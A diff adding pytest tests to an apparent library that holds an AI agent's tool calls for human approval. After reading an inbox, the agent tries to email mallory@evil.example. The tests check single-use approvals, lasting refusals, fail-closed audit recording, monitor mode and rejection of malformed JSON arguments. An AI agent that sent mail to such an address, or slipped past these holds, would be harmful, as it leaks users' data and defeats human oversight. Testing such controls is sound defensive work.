@@ -1,8 +1,11 @@
 """Calls of a steered model: where they may go, who decides, and what is on record."""
 
+from concurrent.futures import ThreadPoolExecutor
+
 import pytest
 
-from ringwall.core import DeniedError, IdentityError, Principal
+from ringwall import Ringwall
+from ringwall.core import DataError, DeniedError, IdentityError, Principal
 from ringwall.inprocess import HeldError, NoSessionError, Refusal
 
 
@@ -72,6 +75,80 @@ def test_what_a_person_amends_is_what_is_sent(wall, session, shop):
         wall.holds.amend(held.hold, wall.principal("morgan", roles=["manager"]), amended)
         assert "warranty@shop.example" in send("mallory@evil.example", "Orders")
     assert shop.sent == [("warranty@shop.example", "Orders")]
+
+
+def test_of_many_callers_one_uses_an_approval(wall, session, shop):
+    send = wall.guard_tool(shop.send_email)
+    with session:
+        session.result("read_inbox", shop.inbox)
+        held = send("mallory@evil.example", "Orders")
+        wall.holds.approve(held.hold, wall.principal("morgan", roles=["manager"]))
+
+    def one(_: int) -> str:
+        with session:
+            return send("mallory@evil.example", "Orders")
+
+    with ThreadPoolExecutor(6) as threads:
+        made = list(threads.map(one, range(6)))
+    assert len(shop.sent) == 1
+    assert sum(not isinstance(result, Refusal) for result in made) == 1
+
+
+def test_what_a_person_refused_stays_refused(wall, session, shop):
+    send = wall.guard_tool(shop.send_email)
+    with session:
+        session.result("read_inbox", shop.inbox)
+        held = send("mallory@evil.example", "Orders")
+        wall.holds.refuse(held.hold, wall.principal("morgan", roles=["manager"]))
+        refused = send("mallory@evil.example", "Orders")
+        assert (refused.hold, refused.waits) == (held.hold, False)
+    assert shop.sent == []
+
+
+def test_nothing_happens_that_can_not_be_recorded(workload, tmp_path, shop, monkeypatch):
+    with Ringwall(workload, application="assistant", data_dir=tmp_path) as made:
+        send = made.guard_tool(shop.send_email)
+        with made.session(made.principal("casey", roles=["clerk"])) as session:
+            session.user("Write to dana@client.example.")
+
+            def broken(*_: object, **__: object) -> None:
+                raise DataError("The disk is full.")
+
+            monkeypatch.setattr("ringwall.server.recorder.Recorder.begin", broken)
+            with pytest.raises(DataError):
+                send("dana@client.example", "x")
+            monkeypatch.undo()
+            monkeypatch.setattr("ringwall.server.recorder.Recorder.tool_called", broken)
+            with pytest.raises(DataError):
+                send("dana@client.example", "x")
+    assert shop.sent == []
+
+
+def test_monitor_mode_watches(workload, tmp_path, shop):
+    path = tmp_path / "ringwall.yaml"
+    path.write_text(workload.read_text().replace("workload: shop", "workload: shop\nmode: monitor"))
+    made = Ringwall(path, application="assistant", data_dir=tmp_path / "data")
+    with made, made.session(made.principal("casey", roles=["clerk"])) as session:
+        session.result("read_inbox", shop.inbox)
+        assert made.guard_tool(shop.send_email)("mallory@evil.example", "x") == "sent"
+    assert shop.sent == [("mallory@evil.example", "x")]
+
+
+def test_a_framework_of_ones_own(session, shop):
+    session.user("Write to dana@client.example.")
+    made = session.call(
+        "send_email", '{"to": "dana@client.example", "body": "x"}', lambda a: shop.send_email(**a)
+    )
+    assert "sent" in made
+    for broken in (
+        '{"to": "dana@client.example"',
+        '{"to": "a", "to": "b", "body": "x"}',
+        "[]",
+        '{"to": NaN}',
+        "",
+    ):
+        assert isinstance(session.call("send_email", broken, lambda a: shop.send_email(**a)), Refusal)
+    assert len(shop.sent) == 1
 
 
 def test_refusals_may_be_raised(wall, session, shop):
